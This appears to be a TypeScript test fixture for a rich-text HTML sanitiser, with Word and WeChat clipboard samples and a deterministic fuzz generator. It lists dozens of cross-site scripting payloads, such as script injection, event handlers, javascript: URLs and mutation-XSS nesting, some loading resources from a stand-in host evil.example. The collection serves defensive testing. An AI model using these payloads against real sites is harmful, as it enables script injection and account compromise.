/** HTML attacks, and clipboard content of web pages and documents. */
import { ALLOWED_TAGS, sanitizeAttribute } from '#core/manifest/html/allowed-html.ts'

const FILE_URL = '/api/files/0b4f7a52-6a5e-4c39-9d41-1f0e5d3c2b1a'

/** Each runs script, loads external resources or covers the page if it is not sanitised. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onload="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/x.png">',
  '<img src="http://evil.example/x.png">',
  '<img src="/api/auth/logout">',
  '<img src="/api/files/../auth/logout">',
  `<img src="${FILE_URL}/../../auth/logout">`,
  `<img src="${FILE_URL}?x=1">`,
  '<img srcset="https://evil.example/x.png 1x" src="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://user:pass@evil.example">x</a>',
  '<a href="/message/manual">x</a>',
  '<a href="https://a.example" onclick="alert(1)" target="_self" ping="https://evil.example" download>x</a>',
  '<a href="https://a.example/\u202egnp.exe">x</a>',
  '<area href="javascript:alert(1)"><base href="https://evil.example/"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><template><img src=x onerror=alert(1)></template></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  '<video src="https://evil.example/x.mp4" autoplay onplay=alert(1)></video>',
  `<video src="${FILE_URL}" poster="javascript:alert(1)" onloadstart=alert(1) autoplay></video>`,
  '<video><source onerror=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))" class="arco-modal yh-watermark" id="root">x</p>',
  '<div style="behavior:url(#x)" data-x="1" aria-hidden="true" hidden contenteditable>x</div>',
  '<span class="yh-text-red yh-text-blue arco-btn">x</span><p class="yh-align-center evil">x</p>',
  '<b><p><table><td><a href="javascript:alert(1)"><td></table></b>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)" colspan="9999999" rowspan="-1">x</td></table>',
  '<p onmouseover="alert(1)" ONFOCUS=alert(1) oNwHeEl=alert(1)>x</p>',
  '<p "onclick=alert(1)>x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<a href="https://a.example/&quot;onmouseover=alert(1)//">x</a>',
  '<img alt="`><img src=x onerror=alert(1)>" src="https://a.example/x.png">',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onclick=alert(1)><slot name=x></slot></custom-element>',
  '<marquee onstart=alert(1)>x</marquee><bgsound src=javascript:alert(1)><isindex action=javascript:alert(1)>',
]

/** Attributes that the client adds when it renders rich text. */
const ADDED_ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ['target', 'rel'],
  img: ['loading', 'decoding', 'referrerpolicy'],
  video: ['controls', 'preload', 'playsinline'],
}

/** Elements and attributes in a DOM tree that rich text must not contain; empty if there are none. */
export const forbiddenIn = (root: ParentNode): readonly string[] =>
  [...root.querySelectorAll('*')].flatMap(element => {
    const tag = element.nodeName.toLowerCase()
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') return [`${tag} of ${element.namespaceURI}`]
    if (!ALLOWED_TAGS.includes(tag)) return [tag]
    return [...element.attributes]
      .filter(({ name, value }) => !ADDED_ATTRIBUTES[tag]?.includes(name) && sanitizeAttribute(tag, name, value) !== value)
      .map(({ name, value }) => `${tag} ${name}=${value}`)
  })

/** Deterministic mixtures of pieces of the attacks. */
export function* mixtures(count: number): Generator<string> {
  const pieces = [
    ...HOSTILE.flatMap(text => text.split(/(?=[<>"'=])/)),
    '<p>',
    '</p>',
    '<b>',
    '<table>',
    '<td>',
    '-->',
    '<!--',
    '&lt;',
    '字',
  ]
  let seed = 20_260_308
  const next = (below: number): number => {
    seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0
    return Math.floor((seed / 2 ** 32) * below)
  }
  for (let at = 0; at < count; at++) yield Array.from({ length: 2 + next(14) }, () => pieces[next(pieces.length)]).join('')
}

/** Clipboard content of a word processor. */
export const WORD = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta charset="utf-8">
<title>放假</title><style><!-- @font-face {font-family:宋体;} p.MsoNormal {margin:0cm; mso-style-parent:"";} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<h2 style='text-align:center' align=center><span style='font-family:黑体'>放假通知<o:p></o:p></span></h2>
<p class=MsoNormal style='text-indent:21.0pt'><b><span lang=EN-US style='font-size:12.0pt;color:red'>10<o:p></o:p></span></b><span style='mso-bidi-font-size:10.5pt'>月<u>一日</u>放假</span></p>
<table class=MsoTableGrid border=1 cellspacing=0 style='border-collapse:collapse'><tr style='mso-yfti-irow:0'><td width=277 colspan=2 valign=top style='width:207.4pt'><p class=MsoNormal>部门</p></td></tr></table>
<p><img width=200 src="file:///C:/Users/a/AppData/image001.png" v:shapes="x"></p>
<!--EndFragment--></body></html>`

/** Clipboard content of a WeChat article. */
export const WECHAT = `<section data-tools="135编辑器" data-id="1" style="border:0;box-sizing:border-box"><section style="display:inline-block;width:100%">
<p style="text-align: center;line-height:1.75em"><span style="color: rgb(63, 63, 63);font-size: 15px;" data-brushtype="text"><strong>留学季</strong></span></p></section>
<img class="rich_pages wxw-img" data-src="https://mmbiz.qpic.cn/a/640" src="https://mmbiz.qpic.cn/mmbiz_png/abc/640?wx_fmt=png" data-ratio="0.5" style="width:100%" data-w="1080">
<mp-miniprogram data-miniprogram-appid="wx1"></mp-miniprogram><a href="https://mp.weixin.qq.com/s/abc" textvalue="阅读" data-linktype="2" onclick="x()">阅读</a></section>`
